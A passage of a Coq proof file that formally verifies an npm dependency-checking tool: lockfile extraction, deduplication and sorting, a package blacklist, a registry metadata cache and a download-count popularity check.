            ∧ ∀ p' s', (p', s') ∈ l1 → keyOf p' s' = k →
                skipped p' s' = true ∨ ignored p' s' = true.
Proof.
  revert deps out. induction entries as [|[p s] entries IH]; intros deps out Hloop.
  - simpl in Hloop. injection Hloop as <-. exists []. rewrite app_nil_r.
    split; [done|]. split; [done|]. intros k d Hin. by apply elem_of_nil in Hin.
  - destruct (skipped p s) eqn:Hskip.
    { rewrite loop_skipped in Hloop by done.
      destruct (IH _ _ Hloop) as (added & -> & Hnd & Hadded).
      exists added. split; [done|]. split; [done|].
      intros k d Hin. destruct (Hadded k d Hin) as (Hk & l1 & p0 & s0 & l2 & -> & Hrest).
      split; [done|]. exists ((p, s) :: l1), p0, s0, l2. split; [done|].
      destruct Hrest as (? & ? & ? & ? & ? & Hfirst). repeat split; try done.
      intros p' s' [Heq|Hin']%elem_of_cons Hkey; [|by eapply Hfirst].
      injection Heq as -> ->. by left. }
    rewrite loop_unskipped in Hloop by done.
    destruct (deps_lookup deps (keyOf p s)) as [stored|] eqn:Hdup.
    { destruct (IH _ _ Hloop) as (added & -> & Hnd & Hadded).
      exists added. split; [done|]. split; [done|].
      intros k d Hin. destruct (Hadded k d Hin) as (Hk & l1 & p0 & s0 & l2 & -> & Hrest).
      split; [done|]. exists ((p, s) :: l1), p0, s0, l2. split; [done|].
      destruct Hrest as (? & ? & ? & ? & ? & Hfirst). repeat split; try done.
      intros p' s' [Heq|Hin']%elem_of_cons Hkey; [|by eapply Hfirst].
      injection Heq as -> ->. exfalso.
      rewrite <- Hkey in Hk. apply deps_lookup_None in Hk. congruence. }
    destruct (matchingRange satisfies (c_blacklist config) _ _) eqn:Hbl; [done|].
    destruct (ignored p s) eqn:Hig.
    { destruct (IH _ _ Hloop) as (added & -> & Hnd & Hadded).
      exists added. split; [done|]. split; [done|].
      intros k d Hin. destruct (Hadded k d Hin) as (Hk & l1 & p0 & s0 & l2 & -> & Hrest).
      split; [done|]. exists ((p, s) :: l1), p0, s0, l2. split; [done|].
      destruct Hrest as (? & ? & ? & ? & ? & Hfirst). repeat split; try done.
      intros p' s' [Heq|Hin']%elem_of_cons Hkey; [|by eapply Hfirst].
      injection Heq as -> ->. by right. }
    destruct (IH _ _ Hloop) as (added & -> & Hnd & Hadded).
    apply deps_lookup_None in Hdup.
    exists ((keyOf p s, depOf p s) :: added).
    split; [by rewrite <- app_assoc|]. split.
    { intros Hdeps. apply Hnd. rewrite fmap_app. simpl.
      apply NoDup_app. split; [done|]. split.
      - intros k Hk ->%list_elem_of_singleton. done.
      - apply NoDup_singleton. }
    intros k d [Heq|Hin]%elem_of_cons.
    + injection Heq as -> ->. split; [done|].
      exists [], p, s, entries. repeat split; try done.
      * unfold blacklistedEntry. rewrite Hbl. apply bool_decide_eq_false_2. by intros [? ?].
      * intros p' s' Hin'. by apply elem_of_nil in Hin'.
    + destruct (Hadded k d Hin) as (Hk & l1 & p0 & s0 & l2 & -> & Hrest).
      rewrite fmap_app, elem_of_app in Hk. simpl in Hk.
      split; [by intros ?; apply Hk; left|].
      exists ((p, s) :: l1), p0, s0, l2. split; [done|].
      destruct Hrest as (? & ? & ? & ? & ? & Hfirst). repeat split; try done.
      intros p' s' [Heq|Hin']%elem_of_cons Hkey; [|by eapply Hfirst].
      injection Heq as -> ->. exfalso. apply Hk. right. rewrite Hkey. left.
Qed.
(** Every entry that is neither passed over nor ignored is represented. *)
Lemma loop_complete entries deps out :
  loop entries deps = Ok out →
  ∀ p s, (p, s) ∈ entries → skipped p s = false → ignored p s = false →
    keyOf p s ∈ out.*1.
Proof.
  revert deps out. induction entries as [|[p0 s0] entries IH]; intros deps out Hloop p s Hin.
  { by apply elem_of_nil in Hin. }
  intros Hskip Hig.
  assert (Htail : ∀ deps', loop entries deps' = Ok out → (p, s) ∈ entries →
                           keyOf p s ∈ out.*1) by (intros; by eapply IH).
  destruct (skipped p0 s0) eqn:Hskip0.
  { rewrite loop_skipped in Hloop by done.
    apply elem_of_cons in Hin as [Heq|Hin]; [|by eapply Htail].
    injection Heq as <- <-. congruence. }
  rewrite loop_unskipped in Hloop by done.
  destruct (deps_lookup deps (keyOf p0 s0)) as [stored|] eqn:Hdup.
  { apply elem_of_cons in Hin as [Heq|Hin]; [|by eapply Htail].
    injection Heq as <- <-.
    destruct (loop_Ok _ _ _ Hloop) as (added & -> & _).
    rewrite fmap_app, elem_of_app. left.
    destruct (decide (keyOf p s ∈ deps.*1)) as [|Hnot]; [done|].
    apply deps_lookup_None in Hnot. congruence. }
  destruct (matchingRange satisfies (c_blacklist config) _ _); [done|].
  destruct (ignored p0 s0) eqn:Hig0.
  { apply elem_of_cons in Hin as [Heq|Hin]; [|by eapply Htail].
    injection Heq as <- <-. congruence. }
  apply elem_of_cons in Hin as [Heq|Hin]; [|by eapply Htail].
  injection Heq as <- <-.
  destruct (loop_Ok _ _ _ Hloop) as (added & -> & _).
  rewrite !fmap_app, !elem_of_app. left. right. simpl. left.
Qed.

(** An entry that is passed over leaves no trace in the loop. *)
Lemma loop_skipped_middle l1 p s l2 deps :
  skipped p s = true → loop (l1 ++ (p, s) :: l2) deps = loop (l1 ++ l2) deps.
Proof.
  intros Hskip. revert deps. induction l1 as [|[p0 s0] l1 IH]; intros deps.
  - simpl app. by apply loop_skipped.
  - rewrite <- !app_comm_cons.
    destruct (skipped p0 s0) eqn:Hskip0.
    + rewrite !loop_skipped by done. apply IH.
    + rewrite !loop_unskipped by done.
      destruct (deps_lookup deps (keyOf p0 s0)); [apply IH|].
      destruct (matchingRange satisfies (c_blacklist config) _ _); [done|].
      destruct (ignored p0 s0); apply IH.
Qed.

Lemma readInstalled_Ok dir out :
  readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
  ∃ packages deps,
    packageLockJson dir = Some packages
    ∧ loop packages [] = Ok deps
    ∧ out = js_sort (compareBy d_name) deps.*2.
Proof.
  unfold readInstalledPackagesFromLockfile.
  destruct (packageLockJson dir) as [packages|].
  - destruct (loop packages []) as [deps| |] eqn:Hloop; [|done..].
    intros [= <-]. by exists packages, deps.
  - by repeat case_match.
Qed.

(** What extraction returns, in terms of the lockfile's entries. *)
Lemma readInstalled_entries dir out :
  readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
  ∃ packages deps,
    packageLockJson dir = Some packages
    ∧ out ≡ₚ deps.*2
    ∧ nameAtVersion <$> deps.*2 = deps.*1
    ∧ NoDup deps.*1
    ∧ (∀ d, d ∈ deps.*2 → firstOccurrence satisfies basename rev config packages d)
    ∧ (∀ p s, (p, s) ∈ packages → skipped p s = false → ignored p s = false →
         keyOf p s ∈ deps.*1).
Proof.
  intros (packages & deps & Hdir & Hloop & ->)%readInstalled_Ok.
  exists packages, deps. split; [done|]. split; [apply js_sort_perm|].
  destruct (loop_Ok _ _ _ Hloop) as (added & Hdeps & Hnd & Hadded).
  simpl in Hdeps. subst added.
  assert (Hkeys : nameAtVersion <$> deps.*2 = deps.*1).
  { clear Hnd Hloop. induction deps as [|[k d] deps IH]; [done|].
    simpl. f_equal.
    - destruct (Hadded k d) as (_ & l1 & p & s & l2 & _ & -> & -> & _); [left|done].
    - apply IH. intros k' d' Hin. apply Hadded. by right. }
  split; [done|]. split; [apply Hnd; constructor|]. split.
  - intros d ((k & d') & -> & Hin)%list_elem_of_fmap.
    destruct (Hadded k d' Hin) as (_ & l1 & p & s & l2 & -> & -> & -> & ? & ? & ? & Hfirst).
    exists l1, p, s, l2. repeat split; try done.
  - intros p s Hin Hskip Hig. by eapply loop_complete.
Qed.

(** C8.  When extraction returns, no two dependencies of the output have
    the same name@version; each one was stored for the first entry, in
    lockfile order, with its name@version (earlier entries with it are the
    ones the loop passes over or ignores, later ones are dropped); every
    entry that is neither passed over nor ignored has its name@version in
    the output; and the output is sorted ascending by name. *)
Theorem extractor_dedups_and_sorts dir out :
  readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
  NoDup (nameAtVersion <$> out)
  ∧ StronglySorted (le_by d_name) out
  ∧ ∃ packages,
      packageLockJson dir = Some packages
      ∧ (∀ d, d ∈ out → firstOccurrence satisfies basename rev config packages d)
      ∧ (∀ p s, (p, s) ∈ packages → skipped p s = false → ignored p s = false →
           keyOf p s ∈ nameAtVersion <$> out).
Proof.
  intros Hout.
  destruct (readInstalled_entries _ _ Hout)
    as (packages & deps & Hdir & Hperm & Hkeys & Hnd & Hfirst & Hall).
  split; [by rewrite Hperm, Hkeys|]. split.
  - apply readInstalled_Ok in Hout as (? & ? & _ & _ & ->). apply js_sort_sorted.
  - exists packages. split; [done|]. split.
    + intros d. rewrite Hperm. apply Hfirst.
    + intros p s Hin Hskip Hig. rewrite Hperm, Hkeys. by apply Hall.
Qed.

(** An entry the loop passes over leaves the extraction as it is without
    it, and no dependency of the output has its path. *)
Lemma readInstalled_passed_over dir l1 p s l2 :
  packageLockJson dir = Some (l1 ++ (p, s) :: l2) →
  skipped p s = true →
  readInstalledPackagesFromLockfile satisfies basename rev config dir
    = readInstalledPackagesFromLockfile satisfies basename rev config
        (withPackages (l1 ++ l2) dir)
  ∧ (NoDup (l1 ++ (p, s) :: l2).*1 →
     ∀ out, readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
     ∀ d, d ∈ out → d_path d ≠ p).
Proof.
  intros Hdir Hskip.
  assert (Heq : readInstalledPackagesFromLockfile satisfies basename rev config dir
    = readInstalledPackagesFromLockfile satisfies basename rev config
        (withPackages (l1 ++ l2) dir)).
  { unfold readInstalledPackagesFromLockfile. rewrite Hdir. simpl.
    by rewrite loop_skipped_middle. }
  split; [done|].
  intros Hnodup out Hout d Hd. rewrite Heq in Hout.
  apply readInstalled_entries in Hout
    as (packages & deps & Hp & Hperm & _ & _ & Hfirst & _).
  simpl in Hp. injection Hp as <-. rewrite Hperm in Hd.
  destruct (Hfirst d Hd) as (l1' & p' & s' & l2' & Hsplit & -> & _).
  simpl. intros ->.
  assert (Hin : p ∈ (l1 ++ l2).*1).
  { rewrite Hsplit, fmap_app, elem_of_app. right. left. }
  rewrite fmap_app in Hnodup, Hin. simpl in Hnodup.
  apply NoDup_app in Hnodup as (_ & Hdisj & Hnd2).
  apply NoDup_cons in Hnd2 as [Hnot _].
  apply elem_of_app in Hin as [Hin|Hin]; [|done].
  apply (Hdisj p Hin). left.
Qed.
End extractor_props.

(** [src/lib/index.ts] never reads [optional]: an entry is treated as the
    same entry without the mark. *)
Lemma lib_index_ignores_optional satisfies basename config p s entries deps :
  lockfileLoop satisfies basename lib_index_ts config ((p, s) :: entries) deps
  = lockfileLoop satisfies basename lib_index_ts config
      ((p, {| s_name := s_name s; s_version := s_version s; s_license := s_license s;
              s_link := s_link s; s_optional := false |}) :: entries) deps.
Proof. reflexivity. Qed.

(** C9, as the code has it.  In both revisions a root entry and an entry
    marked [link: true], and in [part_002] also an entry marked
    [optional: true], leave the extraction as it is without them, and
    (install paths being the distinct keys of [packages]) no dependency of
    the output has their path.  [src/lib/index.ts] has no guard on
    [optional]: there the mark changes nothing. *)
Theorem passed_over_entries_emit_nothing
    (satisfies : string → string → bool) (basename : string → string)
    (rev : IndexRevision) (config : Config)
    (dir : RepoDir) (l1 : list (string * PackageSpec)) (p : string) (s : PackageSpec)
    (l2 : list (string * PackageSpec)) :
  packageLockJson dir = Some (l1 ++ (p, s) :: l2) →
  p = "" ∨ s_link s = true ∨ (rev = unnamed_part_002 ∧ s_optional s = true) →
  readInstalledPackagesFromLockfile satisfies basename rev config dir
    = readInstalledPackagesFromLockfile satisfies basename rev config
        (withPackages (l1 ++ l2) dir)
  ∧ (NoDup (l1 ++ (p, s) :: l2).*1 →
     ∀ out, readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
     ∀ d, d ∈ out → d_path d ≠ p)
  ∧ (∀ p' s' entries deps,
       lockfileLoop satisfies basename lib_index_ts config ((p', s') :: entries) deps
       = lockfileLoop satisfies basename lib_index_ts config
           ((p', {| s_name := s_name s'; s_version := s_version s';
                    s_license := s_license s'; s_link := s_link s';
                    s_optional := false |}) :: entries) deps).
Proof.
  intros Hdir Hcase.
  assert (Hskip : skippedEntry rev p s = true).
  { unfold skippedEntry. destruct Hcase as [->|[->|[-> ->]]]; simpl.
    - done.
    - by rewrite orb_true_r.
    - by rewrite orb_true_r. }
  destruct (readInstalled_passed_over satisfies basename rev config dir l1 p s l2 Hdir Hskip)
    as [Heq Hpath].
  split; [done|]. split; [done|]. intros. apply lib_index_ignores_optional.
Qed.

(** The tests of [utils.test.ts]. *)
Example packageNameFromPath_tests :
  packageNameFromPath basename_posix
    "node_modules/@babel/core/node_modules/@another/package" = "@another/package"
  ∧ packageNameFromPath basename_posix
      "node_modules/@babel/core/node_modules/@another/package/node_modules/package2"
    = "package2"
  ∧ packageNameFromPath basename_posix "node_modules/@babel/core/node_modules/package"
    = "package"
  ∧ packageNameFromPath basename_posix "node_modules/package" = "package"
  ∧ packageNameFromPath basename_posix "node_modules/@babel/core" = "@babel/core".
Proof. by vm_compute. Qed.

(** ** The monad *)

Lemma mbind_run {A B : Type} (m : M A) (k : A → M B) (w : World) :
  (m ≫= k) w =
    match m w with
    | (Ok a, w') => k a w'
    | (Throw err, w') => (Throw err, w')
    | (Exit code, w') => (Exit code, w')
    end.
Proof. reflexivity. Qed.

Lemma mret_run {A : Type} (a : A) (w : World) : mret (M := M) a w = (Ok a, w).
Proof. reflexivity. Qed.

Lemma try_catch_run {A : Type} (m : M A) (handler : string → M A) (w : World) :
  try_catch m handler w =
    match m w with
    | (Throw err, w') => handler err w'
    | r => r
    end.
Proof. reflexivity. Qed.

Lemma readWarningsFromLockfile_run (w : World) :
  match packagePolicyLock w with
  | Some BadPolicyLock => readWarningsFromLockfile w = (Throw "YAMLParseError", w)
  | _ => ∃ cacheData, readWarningsFromLockfile w = (Ok cacheData, w)
  end.
Proof. unfold readWarningsFromLockfile. repeat case_match; by eexists. Qed.

(** ** The blacklist *)

Lemma append_empty (s : string) : "" +:+ s = s.
Proof. reflexivity. Qed.

Lemma append_String (c : Ascii.ascii) (s t : string) :
  String c s +:+ t = String c (s +:+ t).
Proof. reflexivity. Qed.

Lemma withoutAt_append (n v : string) : withoutAt (n +:+ "@" +:+ v) = false.
Proof.
  induction n as [|c n IH].
  - by rewrite append_empty, append_String.
  - rewrite append_String. simpl. rewrite IH. apply andb_false_r.
Qed.

(** A name@version string determines the name and the version when the
    versions hold no [@]. *)
Lemma nameWithVersion_unambiguous (n1 v1 n2 v2 : string) :
  withoutAt v1 = true → withoutAt v2 = true →
  n1 +:+ "@" +:+ v1 = n2 +:+ "@" +:+ v2 → n1 = n2 ∧ v1 = v2.
Proof.
  intros Hv1 Hv2. revert n2.
  induction n1 as [|c1 n1 IH]; intros [|c2 n2];
    rewrite ?append_empty, ?append_String, ?append_empty.
  - by intros [= ->].
  - intros [= <- ->]. change (withoutAt (n2 +:+ "@" +:+ v2) = true) in Hv1.
    by rewrite withoutAt_append in Hv1.
  - intros [= -> <-]. change (withoutAt (n1 +:+ "@" +:+ v1) = true) in Hv2.
    by rewrite withoutAt_append in Hv2.
  - intros [= -> Hrest]. by destruct (IH _ Hrest) as [-> ->].
Qed.

Section blacklist.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

Local Abbreviation loop := (lockfileLoop satisfies basename irev config).
Local Abbreviation keyOf := (nameWithVersionOf basename).
Local Abbreviation nameOf := (packageNameOf basename).
Local Abbreviation skipped := (skippedEntry irev).
Local Abbreviation ignored := (ignoredEntry satisfies basename config).
Local Abbreviation blacklisted := (blacklistedEntry satisfies basename config).

Lemma blacklisted_spec p s :
  blacklisted p s = true ↔
  is_Some (matchingRange satisfies (c_blacklist config) (nameOf p s) (s_version s)).
Proof. unfold blacklistedEntry. apply bool_decide_eq_true. Qed.

(** The loop throws when it meets a blacklisted entry it does not pass over,
    whatever the ignore list says. *)
Lemma loop_throws l1 p s l2 deps :
  skipped p s = false →
  blacklisted p s = true →
  (∀ p' s', (p', s') ∈ l1 → keyOf p' s' = keyOf p s →
     nameOf p' s' = nameOf p s ∧ s_version s' = s_version s) →
  keyOf p s ∉ deps.*1 →
  ∃ err, loop (l1 ++ (p, s) :: l2) deps = Throw err.
Proof.
  intros Hskip [range Hbl]%blacklisted_spec.
  revert deps. induction l1 as [|[p0 s0] l1 IH]; intros deps Hsame Hfresh.
  - simpl app. rewrite loop_unskipped by done.
    rewrite deps_lookup_None_inv by done. rewrite Hbl. by eexists.
  - rewrite <- app_comm_cons.
    assert (Hsame' : ∀ p' s', (p', s') ∈ l1 → keyOf p' s' = keyOf p s →
                       nameOf p' s' = nameOf p s ∧ s_version s' = s_version s).
    { intros p' s' Hin. apply Hsame. by right. }
    destruct (skipped p0 s0) eqn:Hskip0.
    { rewrite loop_skipped by done. by apply IH. }
    rewrite loop_unskipped by done.
    destruct (deps_lookup deps (keyOf p0 s0)); [by apply IH|].
    destruct (matchingRange satisfies (c_blacklist config) (nameOf p0 s0) (s_version s0))
      as [range0|] eqn:Hbl0; [by eexists|].
    destruct (ignored p0 s0); [by apply IH|].
    apply IH; [done|].
    rewrite fmap_app, elem_of_app. intros [Hin|Hin]; [done|].
    simpl in Hin. apply list_elem_of_singleton in Hin.
    destruct (Hsame p0 s0) as [Hname Hversion]; [left|done|].
    rewrite Hname, Hversion in Hbl0. congruence.
Qed.

(** Versions without [@] make the name@version strings unambiguous. *)
Lemma versions_withoutAt_unambiguous (l1 : list (string * PackageSpec)) p s :
  (∀ p' s', (p', s') ∈ l1 → withoutAt (s_version s') = true) →
  withoutAt (s_version s) = true →
  ∀ p' s', (p', s') ∈ l1 → keyOf p' s' = keyOf p s →
    nameOf p' s' = nameOf p s ∧ s_version s' = s_version s.
Proof.
  intros Hl1 Hs p' s' Hin Hkey. unfold nameWithVersionOf in Hkey.
  eapply nameWithVersion_unambiguous; [by eapply Hl1|done|done].
Qed.

(** What the loop stores does not match the blacklist. *)
Lemma readInstalled_not_blacklisted dir out d :
  readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok out →
  d ∈ out →
  matchingRange satisfies (c_blacklist config) (d_name d) (d_version d) = None.
Proof.
  intros (packages & deps & Hdir & Hloop & ->)%readInstalled_Ok.
  rewrite js_sort_perm. intros ((k & d') & -> & Hin)%list_elem_of_fmap.
  destruct (loop_Ok _ _ _ _ _ _ _ Hloop) as (added & Hdeps & _ & Hadded).
  simpl in Hdeps. subst added.
  destruct (Hadded k d' Hin) as (_ & l1 & p & s & l2 & _ & _ & -> & _ & Hbl & _).
  simpl. unfold blacklistedEntry in Hbl. apply bool_decide_eq_false in Hbl.
  destruct (matchingRange satisfies (c_blacklist config) _ _) eqn:Heq; [|done].
  exfalso. apply Hbl. by eexists.
Qed.

(** A run whose extraction fails ends there, in the world it started in:
    with the error of the extraction, unless [package-policy.lock], which is
    read first, does not parse. *)
Lemma processRepo_extraction_fails dir err w :
  readInstalledPackagesFromLockfile satisfies basename irev config dir = Throw err →
  ∃ err',
    processRepo satisfies basename getTime env irev drev config dir w = (Throw err', w)
    ∧ (packagePolicyLock w ≠ Some BadPolicyLock → err' = err).
Proof.
  intros Hread. unfold processRepo, collectAndReconcile, collectWarnings.
  rewrite !mbind_run. pose proof (readWarningsFromLockfile_run w) as Hlock.
  destruct (packagePolicyLock w) as [[|data]|].
  - rewrite Hlock. by eexists.
  - destruct Hlock as [cacheData ->]. unfold liftResult. rewrite Hread. by eexists.
  - destruct Hlock as [cacheData ->]. unfold liftResult. rewrite Hread. by eexists.
Qed.
End blacklist.

(** ** The registry metadata cache *)

Section registry_cache.
Variable env : Env.

Lemma cachedRecord_Some packageName version w cache :
  cachedRecord env packageName version w = Some cache
  ↔ opt_cache env = true ∧ servesVersion w packageName version cache.
Proof.
  unfold cachedRecord, servesVersion. split.
  - destruct (opt_cache env); [|done].
    destruct (registryCacheFiles w !! packageName) as [[|c|c]|]; try done.
    destruct (rc_version c =? 1)%Z eqn:Hv; [|done].
    apply Z.eqb_eq in Hv.
    destruct (rc_versions c !! version) eqn:Hl; [|done].
    intros [= ->]. by rewrite Hl.
  - intros (-> & -> & -> & [meta ->]). done.
Qed.

Lemma fetchJson_fetched url w :
  fetched (fetchJson env url w).2 = fetched w ++ [url]
  ∧ registryCacheFiles (fetchJson env url w).2 = registryCacheFiles w.
Proof. unfold fetchJson. by repeat case_match. Qed.

(** C3.  With caching enabled: when the stored record has [_version] 1
    and the requested version among its [versions], [cacheRegistry] returns
    that record and leaves the world as it was (no request); in every other
    case it makes exactly one request, to the registry URL of the package,
    and then either throws, leaving the cache files alone, or returns a
    record that has the requested version and is the one now stored (the
    write is attempted and a failure of it only reported); it does return
    whenever the registry knows the version. *)
Theorem cacheRegistry_hit_or_single_fetch packageName version w :
  opt_cache env = true →
  (∀ cache, servesVersion w packageName version cache →
     cacheRegistry env packageName version w = (Ok cache, w))
  ∧ ((∀ cache, ¬ servesVersion w packageName version cache) →
     ∃ r w', cacheRegistry env packageName version w = (r, w')
       ∧ fetched w' = fetched w ++ [registryUrl packageName]
       ∧ match r with
         | Ok record =>
             is_Some (rc_versions record !! version)
             ∧ registryCacheFiles w' =
                 if cacheDirWritable env
                 then <[packageName := StoredRecord record]> (registryCacheFiles w)
                 else registryCacheFiles w
         | Throw _ => registryCacheFiles w' = registryCacheFiles w
         | Exit _ => False
         end
       ∧ (registryKnows env w packageName version → ∃ record, r = Ok record)).
Proof.
  intros Hcache. split.
  - intros cache Hserves. unfold cacheRegistry.
    by rewrite (proj2 (cachedRecord_Some _ _ _ _) (conj Hcache Hserves)).
  - intros Hmiss. unfold cacheRegistry.
    destruct (cachedRecord env packageName version w) as [cache|] eqn:Hhit.
    { apply cachedRecord_Some in Hhit as [_ Hserves]. by destruct (Hmiss cache). }
    rewrite mbind_run. unfold fetchJson, registryKnows, registryUrl.
    destruct (net env (fetched w) _) as [|[|] [json|]] eqn:Hnet;
      try (eexists _, _; split; [done|]; split; [done|]; split; [done|];
           intros (? & ? & ? & ? & _); congruence).
    destruct (j_versions json) as [versions|] eqn:Hversions;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _); congruence].
    destruct (versions !! version) as [meta|] eqn:Hmeta;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & [? ?] & _); congruence].
    destruct (j_time json) as [time|] eqn:Htime;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _ & ? & _); congruence].
    destruct (time !! version) as [published|] eqn:Hpublished;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _ & ? & [? ?]); congruence].
    rewrite mbind_run, Hcache, try_catch_run. unfold writeRegistryCacheFile.
    destruct (cacheDirWritable env); simpl.
    all: eexists _, _; split; [done|]; split; [done|].
    all: split; [split; [|done]|by eexists].
    all: cbn [rc_versions]; rewrite lookup_fmap, Hmeta; by eexists.
Qed.
Lemma cachedKeys_Some packageName version w cache :
  cachedKeys env packageName version w = Some cache
  ↔ opt_cache env = true ∧ servesVersionKeys w packageName version cache.
Proof.
  unfold cachedKeys, servesVersionKeys. split.
  - destruct (opt_cache env); [|done].
    destruct (registryCacheFiles w !! packageName) as [[|c|c]|]; try done.
    destruct (rk_version c =? 1)%Z eqn:Hv; [|done].
    apply Z.eqb_eq in Hv.
    destruct (bool_decide (version ∈ rk_versions c)) eqn:Hin; [|done].
    apply bool_decide_eq_true in Hin. by intros [= ->].
  - intros (-> & -> & -> & Hin). by rewrite bool_decide_eq_true_2.
Qed.

(** X2.  The statement of C3 for the [cacheRegistry] of [part_002], which keeps
    the versions as an array of keys. *)
Theorem cacheRegistryKeys_hit_or_single_fetch packageName version w :
  opt_cache env = true →
  (∀ cache, servesVersionKeys w packageName version cache →
     cacheRegistryKeys env packageName version w = (Ok cache, w))
  ∧ ((∀ cache, ¬ servesVersionKeys w packageName version cache) →
     ∃ r w', cacheRegistryKeys env packageName version w = (r, w')
       ∧ fetched w' = fetched w ++ [registryUrl packageName]
       ∧ match r with
         | Ok record =>
             version ∈ rk_versions record
             ∧ registryCacheFiles w' =
                 if cacheDirWritable env
                 then <[packageName := StoredKeys record]> (registryCacheFiles w)
                 else registryCacheFiles w
         | Throw _ => registryCacheFiles w' = registryCacheFiles w
         | Exit _ => False
         end
       ∧ (registryKnows env w packageName version → ∃ record, r = Ok record)).
Proof.
  intros Hcache. split.
  - intros cache Hserves. unfold cacheRegistryKeys.
    by rewrite (proj2 (cachedKeys_Some _ _ _ _) (conj Hcache Hserves)).
  - intros Hmiss. unfold cacheRegistryKeys.
    destruct (cachedKeys env packageName version w) as [cache|] eqn:Hhit.
    { apply cachedKeys_Some in Hhit as [_ Hserves]. by destruct (Hmiss cache). }
    rewrite mbind_run. unfold fetchJson, registryKnows.
    destruct (net env (fetched w) _) as [|[|] [json|]] eqn:Hnet;
      try (eexists _, _; split; [done|]; split; [done|]; split; [done|];
           intros (? & ? & ? & ? & _); congruence).
    destruct (j_versions json) as [versions|] eqn:Hversions;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _); congruence].
    destruct (versions !! version) as [meta|] eqn:Hmeta;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & [? ?] & _); congruence].
    destruct (j_time json) as [time|] eqn:Htime;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _ & ? & _); congruence].
    destruct (time !! version) as [published|] eqn:Hpublished;
      [|eexists _, _; split; [done|]; split; [done|]; split; [done|];
        intros (? & ? & ? & [= <-] & ? & _ & ? & [? ?]); congruence].
    rewrite mbind_run, Hcache, try_catch_run. unfold writeRegistryCacheFile.
    destruct (cacheDirWritable env); simpl.
    all: eexists _, _; split; [done|]; split; [done|].
    all: split; [split; [|done]|by eexists].
    all: cbn [rk_versions]; apply list_elem_of_fmap; exists (version, meta).
    all: split; [done|]; by apply elem_of_map_to_list.
Qed.
End registry_cache.

(** ** The popularity check *)

Lemma forM_invariant {A S : Type} (P : S → Prop) (body : A → S → M S) (xs : list A) :
  (∀ x st w st' w', P st → body x st w = (Ok st', w') → P st') →
  ∀ st w st' w', P st → forM body xs st w = (Ok st', w') → P st'.
Proof.
  intros Hbody. induction xs as [|x xs IH]; intros st w st' w' HP; simpl.
  - rewrite mret_run. by intros [= <- <-].
  - rewrite mbind_run. destruct (body x st w) as [[st1| |] w1] eqn:Hx; [|done..].
    intros Hrest. eapply IH; [|exact Hrest]. by eapply Hbody.
Qed.

Section popularity.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.

(** Either revision makes exactly one request, to the downloads URL, and
    touches nothing else. *)
Lemma checkPackageDownloads_world drev packageName w :
  (checkPackageDownloads env drev packageName w).2 = logRequest (downloadsUrl packageName) w.
Proof.
  destruct drev; unfold checkPackageDownloads.
  - rewrite mbind_run. unfold fetchBody.
    destruct (net env (fetched w) (downloadsUrl packageName)) as [|ok [json|]];
      try done.
    by destruct (j_downloads json).
  - rewrite try_catch_run, mbind_run. unfold fetchJson.
    destruct (net env (fetched w) (downloadsUrl packageName)) as [|[|] [json|]];
      try done.
    by destruct (j_downloads json).
Qed.

(** [part_003]: the sentinel, never an exception. *)
Lemma checkPackageDownloads_part_003 packageName w :
  (popularityFetchFails env w packageName →
   checkPackageDownloads env unnamed_part_003 packageName w
   = (Ok (-1)%Z, logRequest (downloadsUrl packageName) w))
  ∧ ∃ downloads,
      checkPackageDownloads env unnamed_part_003 packageName w
      = (Ok downloads, logRequest (downloadsUrl packageName) w).
Proof.
  unfold popularityFetchFails, checkPackageDownloads.
  rewrite try_catch_run, mbind_run. unfold fetchJson.
  destruct (net env (fetched w) (downloadsUrl packageName)) as [|[|] [json|]];
    try (split; [done|by eexists]).
  destruct (j_downloads json) as [downloads|].
  - split; [done|]. by eexists.
  - split; [done|]. by eexists.
Qed.

(** [src/lib/package-downloads.ts]: the failure is thrown. *)
Lemma checkPackageDownloads_lib_throws packageName w :
  match net env (fetched w) (downloadsUrl packageName) with
  | Http _ (Some json) => j_downloads json = None
  | _ => True
  end →
  ∃ err, checkPackageDownloads env lib_package_downloads_ts packageName w
         = (Throw err, logRequest (downloadsUrl packageName) w).
Proof.
  unfold checkPackageDownloads. rewrite mbind_run. unfold fetchBody.
  destruct (net env (fetched w) (downloadsUrl packageName)) as [|ok [json|]];
    try (intros _; by eexists).
  intros ->. by eexists.
Qed.

Section check.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

Local Abbreviation downloadCheck' := (downloadCheck env irev drev config).
Local Abbreviation lookup' := (lookupDownloads env drev).

Lemma getProperty_own (obj : JsObject) (name : string) (n : Z) :
  own obj !! name = Some n → getProperty env obj name = Some (Count n).
Proof. intros Hown. unfold getProperty. by rewrite Hown. Qed.

Lemma lookupDownloads_truthy packageName st w downloads :
  getProperty env (packageDownloadCache st) packageName = Some downloads →
  downloads ≠ Count 0%Z →
  lookup' packageName st w = (Ok downloads, w).
Proof.
  intros Hc Hnz. unfold lookupDownloads. rewrite Hc.
  destruct downloads as [cached|v]; [|done].
  destruct (Z.eqb_spec cached 0) as [->|_]; done.
Qed.

Lemma lookupDownloads_cached packageName st w cached :
  own (packageDownloadCache st) !! packageName = Some cached → cached ≠ 0%Z →
  lookup' packageName st w = (Ok (Count cached), w).
Proof.
  intros Hc Hnz. apply lookupDownloads_truthy; [by apply getProperty_own|congruence].
Qed.

